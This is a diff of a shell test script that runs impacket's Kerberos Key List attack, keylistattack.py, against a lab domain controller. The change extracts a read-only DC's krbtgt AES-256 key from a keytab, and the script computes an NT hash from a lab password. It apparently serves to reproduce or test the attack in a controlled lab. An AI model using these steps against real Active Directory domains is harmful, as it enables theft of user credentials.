@@ -3,8 +3,8 @@
 . "$(dirname "$0")/lib.sh"
 need keylistattack.py describeTicket.py kinit python3
 
-key_of() { # KEYTAB PRINCIPAL-PATTERN: the AES-256 key in hexadecimal
-  klist -K -e -k "$1" | awk -v p="$2" '$0 ~ p && /aes256/ {gsub(/[()]|0x/, "", $NF); print $NF; exit}'
+rodc_key() { # KEYTAB: the AES-256 key of the read-only DC, in hexadecimal: its kvno holds the key number
+  klist -K -e -k "$1" | awk '$1 > 65535 && /aes256/ {gsub(/[()]|0x/, "", $NF); print $NF; exit}'
 }
 attack() { # USER
   keylistattack.py -kdc dc01.ad.fernhill.example -rodcNo "$RODC" -rodcKey "$RODC_KEY" -domain "$REALM" \
@@ -14,7 +14,7 @@ attack() { # USER
 # impacket's partial TGT has no PAC: a DC of October 2021 still takes it
 lab --updates 2021-10
 RODC=$(sed -n 's/.*"key_number": *\([0-9]*\).*/\1/p' "$LAB/lab.json" | head -1)
-RODC_KEY=$(key_of "$LAB/kdc.keytab" "krbtgt_AzureAD|krbtgt_$RODC|krbtgt/$REALM")
+RODC_KEY=$(rodc_key "$LAB/kdc.keytab")
 NT=$(sed -n 's/^ada=//p' "$LAB/passwords" | python3 -c "
 import sys
 from impacket.ntlm import compute_nthash
